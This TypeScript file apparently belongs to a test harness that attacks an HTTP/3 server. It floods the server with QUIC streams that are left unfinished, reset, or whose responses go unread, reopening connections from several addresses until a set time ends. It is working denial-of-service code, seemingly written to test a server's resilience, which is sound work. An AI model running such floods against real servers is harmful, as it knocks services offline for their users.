/** Attacks over HTTP/3 by clients that obey the limits of QUIC; they run in the process of attacker.ts. */
import { type AttackConnection, type AttackStream, connectAttacker, pause, requestFor } from '../quic-attacker.ts';
import { addressOf, type Target } from './attacks.ts';

const oneByte = Buffer.from([1]);
const request = requestFor('/json');

/** What a connection does whenever the server permits one more stream. */
const shapes = {
  /** A stream that begins and never ends. */
  unfinished(stream: AttackStream) {
    stream.write(oneByte, false);
  },
  /** A request that is given up. */
  resets(stream: AttackStream) {
    stream.write(request, true);
    stream.reset();
  },
  /** A request whose response is not read. */
  unread(stream: AttackStream) {
    stream.write(request, true);
  },
} as const;
export type QuicShape = keyof typeof shapes;

interface QuicFlood extends Target {
  readonly port: number;
  /** The connections have these in turn. */
  readonly shapes: readonly QuicShape[];
  readonly connections: number;
  readonly addresses: number;
  readonly durationMs: number;
}

/** Streams that a connection opens before another one gets its turn. */
const streamsInTurn = 10;

/** A server that rejects the connection may say nothing. */
const handshakeTimeoutMs = 5_000;

/** Opens as many streams as the server permits, on all connections in turn; a connection that is closed is opened again. */
export async function floodStreams({ port, shapes: names, connections, addresses, durationMs }: QuicFlood) {
  const endMs = performance.now() + durationMs;
  let opened = 0;
  let streams = 0;
  const attack = async (at: number): Promise<void> => {
    const use = shapes[names[at % names.length] as QuicShape];
    while (performance.now() < endMs) {
      const connection = await connectAttacker(port, addressOf(at % addresses), handshakeTimeoutMs);
      if (connection === null) continue;
      opened += 1;
      const used = await useUntil(connection, use, endMs);
      streams += used;
      connection.close();
    }
  };
  await Promise.all(Array.from({ length: connections }, (_, at) => attack(at)));
  return { opened, streams };
}

async function useUntil(
  connection: AttackConnection,
  use: (stream: AttackStream) => void,
  endMs: number,
): Promise<number> {
  let streams = 0;
  while (!connection.isClosed && performance.now() < endMs) {
    for (let inTurn = 0; inTurn < streamsInTurn; inTurn += 1) {
      const stream = connection.openStream();
      if (stream === null) break;
      use(stream);
      streams += 1;
    }
    connection.handle();
    await pause(1);
  }
  return streams;
}
